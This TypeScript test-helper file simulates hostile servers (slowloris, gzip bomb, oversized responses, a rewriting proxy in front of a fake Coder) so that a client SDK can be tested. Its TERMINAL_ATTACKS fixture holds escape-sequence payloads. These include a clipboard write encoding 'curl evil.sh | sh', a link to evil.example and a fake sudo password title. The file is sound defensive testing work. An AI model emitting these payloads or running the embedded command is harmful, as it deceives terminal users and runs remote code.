// Loopback servers that misbehave the ways a hostile or broken deployment can: accept and never answer, trickle an
// answer a byte at a time, send far too much, send a small gzip that inflates to gigabytes, or stand in front of a
// fake Coder and rewrite what it says (terminal control sequences in every name, message and log line). Each one
// counts the requests it saw and destroys its sockets on close, so a test never leaves a connection behind.
import { once } from "node:events";
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from "node:http";
import { createServer as createNetServer, type Server, type Socket } from "node:net";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { createGzip } from "node:zlib";
import type { WebSocketDialer } from "@spt-coder/sdk";
import WebSocket, { WebSocketServer } from "ws";

/** A running hostile server. */
export interface HostileServer {
  url: string;
  /** Requests seen so far. */
  readonly hits: number;
  close(): Promise<void>;
}

async function serve(
  server: Server,
  sockets: Set<Socket>,
  counter: { hits: number },
): Promise<HostileServer> {
  server.on("connection", (socket: Socket) => {
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = server.address();
  if (!address || typeof address === "string") throw new Error("no port");
  return {
    url: `http://127.0.0.1:${address.port}`,
    get hits() {
      return counter.hits;
    },
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** Accepts every connection, reads what comes, never writes a byte. */
export function silentServer(): Promise<HostileServer> {
  const counter = { hits: 0 };
  const sockets = new Set<Socket>();
  const server = createNetServer((socket) => {
    // Requests, not connections: undici may open a connection it never sends on.
    socket.once("data", () => counter.hits++);
    socket.on("data", () => {});
    socket.on("error", () => {});
  });
  return serve(server, sockets, counter);
}

/**
 * Answers every request a byte at a time, one byte every `everyMs`, for ever: in the headers (`phase: "headers"`)
 * or, after complete headers, in a JSON body that never ends (`phase: "body"`).
 */
export function slowLorisServer(phase: "headers" | "body", everyMs = 200): Promise<HostileServer> {
  const counter = { hits: 0 };
  const sockets = new Set<Socket>();
  const server = createNetServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", () => {
      counter.hits++;
      const head =
        phase === "headers"
          ? "HTTP/1.1 200 OK\r\nX-Slow: "
          : 'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n11\r\n{"version":"v1.0.\r\n';
      socket.write(head);
      // One byte of the body at a time: in the headers a byte, in the body a chunk of one byte.
      const timer = setInterval(() => socket.write(phase === "headers" ? "v" : "1\r\n0\r\n"), everyMs);
      socket.on("close", () => clearInterval(timer));
    });
  });
  return serve(server, sockets, counter);
}

type Handler = (request: IncomingMessage, response: ServerResponse) => void;

function httpServer(handler: Handler): Promise<HostileServer> {
  const counter = { hits: 0 };
  const sockets = new Set<Socket>();
  const server = createHttpServer((request, response) => {
    counter.hits++;
    response.on("error", () => {});
    handler(request, response);
  });
  return serve(server, sockets, counter);
}

/** A 200 JSON answer of `bytes` bytes (a string of that length), streamed as fast as the client reads it. */
export function hugeAnswerServer(bytes: number): Promise<HostileServer> {
  const chunk = Buffer.alloc(1024 * 1024, "x");
  return httpServer((_request, response) => {
    response.writeHead(200, { "content-type": "application/json" });
    response.write('{"version":"');
    let sent = 0;
    const pump = () => {
      while (sent < bytes && !response.destroyed) {
        sent += chunk.length;
        if (!response.write(chunk)) return void response.once("drain", pump);
      }
      response.end('"}');
    };
    pump();
  });
}

/** A 200 JSON answer sent with `Content-Encoding: gzip` whose body inflates to `inflatedBytes` bytes of zeros. */
export async function gzipBombServer(inflatedBytes: number): Promise<HostileServer & { wireBytes: number }> {
  const bomb = await gzipOfZeros(inflatedBytes);
  const server = await httpServer((_request, response) => {
    response.writeHead(200, {
      "content-type": "application/json",
      "content-encoding": "gzip",
      "content-length": String(bomb.length),
    });
    response.end(bomb);
  });
  return Object.assign(server, { wireBytes: bomb.length });
}

async function gzipOfZeros(bytes: number): Promise<Buffer> {
  const gzip = createGzip({ level: 9 });
  const parts: Buffer[] = [];
  gzip.on("data", (part: Buffer) => parts.push(part));
  const zeros = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < bytes; written += zeros.length) {
    if (!gzip.write(zeros)) await once(gzip, "drain");
  }
  gzip.end();
  await once(gzip, "end");
  return Buffer.concat(parts);
}

/** `gc()`, exposed at run time (vitest's workers are not started with --expose-gc). */
export function exposedGc(): () => void {
  setFlagsFromString("--expose-gc");
  return runInNewContext("gc") as () => void;
}

/**
 * Settles with `work`'s outcome, or with `"hung"` when it has not settled after `boundMs`; collects garbage every
 * `gcEveryMs` meanwhile, so a deadline that is only weakly held is collected before it can fire.
 */
export async function withinBound<T>(
  work: () => Promise<T>,
  boundMs: number,
  gcEveryMs = 50,
): Promise<{ value?: T; error?: unknown; hung: boolean; ms: number }> {
  const gc = exposedGc();
  const collector = setInterval(gc, gcEveryMs);
  const started = performance.now();
  let watchdog: NodeJS.Timeout | undefined;
  try {
    const hung = new Promise<"hung">((resolve) => {
      watchdog = setTimeout(() => resolve("hung"), boundMs);
    });
    const outcome = await Promise.race([
      work().then(
        (value) => ({ value, hung: false }),
        (error: unknown) => ({ error, hung: false }),
      ),
      hung.then(() => ({ hung: true })),
    ]);
    return { ...outcome, ms: performance.now() - started };
  } finally {
    clearInterval(collector);
    clearTimeout(watchdog);
  }
}

/** Samples the resident set size every few milliseconds while `work` runs; returns the peak growth in bytes. */
export async function peakRssGrowth<T>(
  work: () => Promise<T>,
): Promise<{ outcome: Promise<T>; growth: number }> {
  const base = process.memoryUsage.rss();
  let peak = base;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage.rss());
  }, 5);
  const outcome = work();
  await outcome.catch(() => {});
  clearInterval(sampler);
  peak = Math.max(peak, process.memoryUsage.rss());
  return { outcome, growth: peak - base };
}

/**
 * What a hostile server or template author puts in a string, by what it would do to a terminal: each must reach
 * the user as visible text, never as a control sequence.
 */
export const TERMINAL_ATTACKS: Readonly<Record<string, string>> = {
  "OSC 52 (writes the clipboard)": "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007",
  "CSI 2J (clears the screen)": "\u001b[2J\u001b[H",
  "OSC 8 (a hyperlink)": "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\",
  "OSC 0 (the window title)": "\u001b]0;sudo password:\u0007",
  "C1 CSI (U+009B)": "\u009b2J",
  "a bare carriage return": "ok\rERROR",
  "SGR conceal": "\u001b[8mhidden",
  "cursor up": "\u001b[3A",
  "a lone ESC": "\u001b",
};

/** Every attack of {@link TERMINAL_ATTACKS} in one string. */
export const ALL_TERMINAL_ATTACKS = Object.values(TERMINAL_ATTACKS).join("|");

/**
 * The control characters left in `text` once our own are taken out: the spinner's and the fleet block's cursor
 * controls (`\r` + clear line, cursor up) and, where colour is on (`sgr`), plain SGR. Tab and newline are text.
 */
export function strayControls(text: string, sgr = false): string[] {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  let rest = text.replace(/\r\u001b\[2K|\u001b\[\d+A/g, "");
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  if (sgr) rest = rest.replace(/\u001b\[[0-9;]*m/g, "");
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  return rest.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g) ?? [];
}

/** How a {@link rewritingProxy} changes what passes: JSON answers and WebSocket text frames, by request path. */
export interface Rewrites {
  /** A JSON answer's parsed body; returns the body to send. */
  json?: (body: unknown, path: string) => unknown;
  /** A text frame from upstream; returns the frames to send in its place (none drops it). */
  frame?: (data: string, path: string) => string[];
}

/**
 * A proxy in front of `upstream` (a fake Coder) that forwards every request and WebSocket as they are, except what
 * `rewrites` changes: a deployment whose answers say what a hostile server would.
 */
export function rewritingProxy(upstream: string, rewrites: Rewrites): Promise<HostileServer> {
  const counter = { hits: 0 };
  const sockets = new Set<Socket>();
  const server = createHttpServer(async (request, response) => {
    counter.hits++;
    response.on("error", () => {});
    const path = new URL(request.url ?? "/", "http://x").pathname;
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const headers = new Headers();
    for (const [name, value] of Object.entries(request.headers)) {
      if (typeof value === "string" && !["host", "connection", "content-length"].includes(name))
        headers.set(name, value);
    }
    try {
      const answer = await fetch(`${upstream}${request.url}`, {
        method: request.method,
        headers,
        body: chunks.length ? Buffer.concat(chunks) : undefined,
        redirect: "manual",
      });
      let body = Buffer.from(await answer.arrayBuffer());
      const type = answer.headers.get("content-type") ?? "";
      if (rewrites.json && /json/.test(type) && body.length > 0) {
        body = Buffer.from(JSON.stringify(rewrites.json(JSON.parse(body.toString("utf8")), path)));
      }
      const out: Record<string, string> = {};
      answer.headers.forEach((value, name) => {
        if (!["content-length", "content-encoding", "transfer-encoding", "connection"].includes(name))
          out[name] = value;
      });
      response.writeHead(answer.status, out).end(body);
    } catch {
      response.destroy();
    }
  });
  const wss = new WebSocketServer({ noServer: true });
  server.on("upgrade", (request, socket, head) => {
    const path = new URL(request.url ?? "/", "http://x").pathname;
    const headers: Record<string, string> = {};
    for (const [name, value] of Object.entries(request.headers)) {
      if (
        typeof value === "string" &&
        !name.startsWith("sec-websocket") &&
        !["host", "connection", "upgrade"].includes(name)
      )
        headers[name] = value;
    }
    const target = new WebSocket(`${upstream.replace(/^http/, "ws")}${request.url}`, {
      headers,
      perMessageDeflate: false,
    });
    target.on("error", () => socket.destroy());
    target.on("unexpected-response", (_req, answer) => {
      socket.end(`HTTP/1.1 ${answer.statusCode} Refused\r\nConnection: close\r\n\r\n`);
      answer.resume();
    });
    target.on("open", () => {
      wss.handleUpgrade(request, socket, head, (client) => {
        target.on("message", (data, isBinary) => {
          if (isBinary || !rewrites.frame) return void client.send(data, { binary: isBinary });
          for (const frame of rewrites.frame(data.toString(), path)) client.send(frame);
        });
        target.on("close", (code) => (code === 1000 ? client.close(1000) : client.terminate()));
        client.on("close", () => target.terminate());
        client.on("error", () => target.terminate());
      });
    });
  });
  server.on("close", () => wss.close());
  return serve(server, sockets, counter);
}

/**
 * A copy of `value` where `poison(key, text, parent)` rewrote every string under an object key; arrays and objects
 * are walked to the bottom.
 */
export function rewriteStrings(
  value: unknown,
  poison: (key: string, text: string, parent: Record<string, unknown>) => string,
): unknown {
  if (Array.isArray(value)) return value.map((v) => rewriteStrings(v, poison));
  if (value === null || typeof value !== "object") return value;
  const parent = value as Record<string, unknown>;
  return Object.fromEntries(
    Object.entries(parent).map(([key, v]) => [
      key,
      typeof v === "string" ? poison(key, v, parent) : rewriteStrings(v, poison),
    ]),
  );
}

/** How a {@link streamServer} answers a WebSocket upgrade. */
export type UpgradeBehaviour =
  | { kind: "never-answers" }
  /** Upgrades, then sends these frames (none: silent for ever, no ping, no close). */
  | { kind: "frames"; frames: readonly (string | Buffer)[] }
  /** Upgrades, then writes the header of one text frame of `bytes` bytes and a little of its payload. */
  | { kind: "huge-frame"; bytes: number };

/** A {@link streamServer}: events a test waits on instead of the clock. */
export interface StreamServer extends HostileServer {
  /** Resolves once `n` upgrade requests arrived (whole, headers read). */
  upgrades(n?: number): Promise<void>;
  /** Resolves once `n` streams are open on the server side. */
  opened(n?: number): Promise<void>;
  /**
   * Pings every open stream and resolves when each answered with a pong (the client has read the ping, and so
   * everything sent before it) or closed.
   */
  pingAll(): Promise<void>;
}

/**
 * A server for one-way streams: plain requests go to `answer` (JSON), upgrades behave as `upgrade` says. Waiting
 * on its events lets a test with a controllable clock move time only once the network has done its part.
 */
export async function streamServer(
  answer: (path: string) => unknown,
  upgrade: UpgradeBehaviour,
): Promise<StreamServer> {
  const counter = { hits: 0 };
  const sockets = new Set<Socket>();
  const upgraded = counted();
  const open = counted();
  const streams = new Set<WebSocket>();
  const server = createHttpServer((request, response) => {
    counter.hits++;
    const body = answer(new URL(request.url ?? "/", "http://x").pathname);
    response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body));
  });
  const wss = new WebSocketServer({ noServer: true, perMessageDeflate: false });
  server.on("upgrade", (request, socket, head) => {
    upgraded.add();
    if (upgrade.kind === "never-answers") return;
    wss.handleUpgrade(request, socket, head, (ws) => {
      streams.add(ws);
      ws.on("close", () => streams.delete(ws));
      if (upgrade.kind === "huge-frame") {
        // FIN + text opcode, 127 = a 64-bit length follows; unmasked, as a server sends.
        const header = Buffer.alloc(10);
        header[0] = 0x81;
        header[1] = 127;
        header.writeBigUInt64BE(BigInt(upgrade.bytes), 2);
        socket.write(Buffer.concat([header, Buffer.alloc(1024, "x")]));
      } else {
        for (const frame of upgrade.frames) ws.send(frame);
      }
      open.add();
    });
  });
  server.on("close", () => wss.close());
  const base = await serve(server, sockets, counter);
  return {
    ...base,
    get hits() {
      return counter.hits;
    },
    upgrades: (n = 1) => upgraded.reach(n),
    opened: (n = 1) => open.reach(n),
    pingAll: () =>
      Promise.all(
        [...streams].map(
          (ws) =>
            new Promise<void>((resolve) => {
              ws.once("pong", () => resolve());
              ws.once("close", () => resolve());
              ws.ping();
            }),
        ),
      ).then(() => {}),
  };
}

/** A counter with promises that resolve once it reaches a number. */
function counted() {
  let count = 0;
  const waiters: { n: number; resolve: () => void }[] = [];
  return {
    add() {
      count++;
      for (const w of waiters.filter((w) => w.n <= count)) w.resolve();
    },
    reach(n: number): Promise<void> {
      return count >= n ? Promise.resolve() : new Promise((resolve) => waiters.push({ n, resolve }));
    },
  };
}

/**
 * A `fetch` that answers in-process with `answer(path)` as JSON: with the clock faked, a poll then needs no real
 * network, so moving the clock alone drives it.
 */
export function inProcessFetch(answer: (path: string) => unknown): typeof fetch {
  return async (input, init) => {
    const request = input instanceof Request ? input : new Request(input, init);
    const body = JSON.stringify(answer(new URL(request.url).pathname));
    const headers = { "content-type": "application/json", "x-coder-build-version": "v2.36.0" };
    return new Response(body, { status: 200, headers });
  };
}

/** A {@link floodDialer}: what it delivered, and the events a test waits on. */
export interface Flood {
  dialer: WebSocketDialer;
  /** Frames handed to the reader so far. */
  readonly delivered: number;
  /** Resolves at the reader's first `pause()`, or when every frame was delivered without one. */
  readonly pausedOrDone: Promise<"paused" | "done">;
}

/**
 * A WebSocket dialer that opens at once and offers `count` text frames (`frame(i)`, i from 1) as fast as the
 * reader takes them, a hundred per turn of the event loop, then closes with 1000. It stops while the reader has
 * paused it, as a server's sends wait in the network's buffers, so what the reader holds is what it read.
 */
export function floodDialer(count: number, frame: (i: number) => string): Flood {
  let delivered = 0;
  let settle: (how: "paused" | "done") => void = () => {};
  const pausedOrDone = new Promise<"paused" | "done">((resolve) => {
    settle = resolve;
  });
  const dialer: WebSocketDialer = (_url, _options, handlers) => {
    let paused = false;
    let closed = false;
    const pump = () => {
      for (let n = 0; n < 100 && !paused && !closed && delivered < count; n++) {
        delivered++;
        handlers.message(Buffer.from(frame(delivered)), false);
      }
      if (closed || paused) return;
      if (delivered < count) setImmediate(pump);
      else {
        settle("done");
        handlers.closed(1000, "");
      }
    };
    setImmediate(() => {
      handlers.open();
      pump();
    });
    return {
      send() {},
      pause() {
        paused = true;
        settle("paused");
      },
      resume() {
        paused = false;
        setImmediate(pump);
      },
      close() {
        closed = true;
      },
    };
  };
  return {
    dialer,
    get delivered() {
      return delivered;
    },
    pausedOrDone,
  };
}
